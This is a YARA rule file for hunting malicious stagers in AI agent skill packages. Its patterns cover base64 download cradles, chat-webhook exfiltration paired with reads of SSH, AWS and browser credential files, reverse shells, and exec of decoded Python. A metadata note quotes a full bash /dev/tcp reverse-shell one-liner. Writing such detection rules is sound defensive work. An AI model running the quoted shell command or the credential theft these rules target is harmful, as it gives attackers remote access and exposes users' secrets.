/*
  Agent-skill stager hunting rules
  Maintainer: hunt-team@corvid-labs.example
  Rev: 2025-05-14
*/

rule SkillStager_B64_Pipe_Shell
{
    meta:
        description = "Base64 blob that decodes to a download cradle, piped to a shell"
        severity = "high"
        sample_note = "hub skill 'pdf-toolkit-pro' setup step, May 2025"
    strings:
        // base64 of "curl " and "wget " at the three possible alignments
        $c0 = "Y3VybC"
        $c1 = "N1cmwg"
        $c2 = "jdXJsI"
        $w0 = "d2dldC"
        $w1 = "dnZXQg"
        $w2 = "3Z2V0I"
        $tail = /base64\s+(-d|--decode|-D)\s*\|\s*(ba)?sh/
    condition:
        filesize < 2MB and $tail and any of ($c*, $w*)
}

rule SkillExfil_Webhook_URL
{
    meta:
        description = "Chat webhook endpoint shapes commonly used for exfil"
        severity = "medium"
    strings:
        $discord = /discord(app)?\.com\/api\/webhooks\/\d{15,20}\/[\w-]{30,}/
        $slack   = /hooks\.slack\.com\/services\/T[A-Z0-9]{6,}\/B[A-Z0-9]{6,}\/[A-Za-z0-9]{20,}/
        $tg      = /api\.telegram\.org\/bot\d{6,}:[\w-]{30,}\/send(Message|Document)/
    condition:
        any of them
}

rule SkillExfil_Webhook_With_FileRead
{
    meta:
        description = "Webhook endpoint in same file as reads of secrets locations"
        severity = "high"
    strings:
        $hook = /(discord(app)?\.com\/api\/webhooks|hooks\.slack\.com\/services|api\.telegram\.org\/bot)/
        $s1 = ".ssh/id_"
        $s2 = ".aws/credentials"
        $s3 = ".env"
        $s4 = "Login Data"
        $s5 = ".openclaw"
    condition:
        $hook and 2 of ($s*)
}

rule SkillRevShell_DevTcp
{
    meta:
        description = "Interactive reverse shell one-liners"
        severity = "high"
        sample_note = "seen as 'bash -i >& /dev/tcp/203.0.113.50/4444 0>&1' in a 'debug helper'"
    strings:
        $devtcp = /\/dev\/tcp\/[\w\.\-]+\/\d{2,5}/
        $nc_e   = /\bnc(at)?\s+(-\w+\s+)*-e\s+\/bin\/(ba)?sh/
        $mkfifo = /mkfifo\s+\/tmp\/\w+;\s*(cat|nc)/
    condition:
        any of them
}

rule SkillPy_ExecDecoded
{
    meta:
        description = "Python exec/eval of decoded or decompressed payload"
        severity = "high"
    strings:
        $e1 = /exec\(\s*(base64\.b64decode|zlib\.decompress|marshal\.loads|bytes\.fromhex)/
        $e2 = /eval\(\s*compile\(\s*(base64|zlib)/
        $e3 = /__import__\(['"]base64['"]\)\.b64decode/
    condition:
        any of them
}
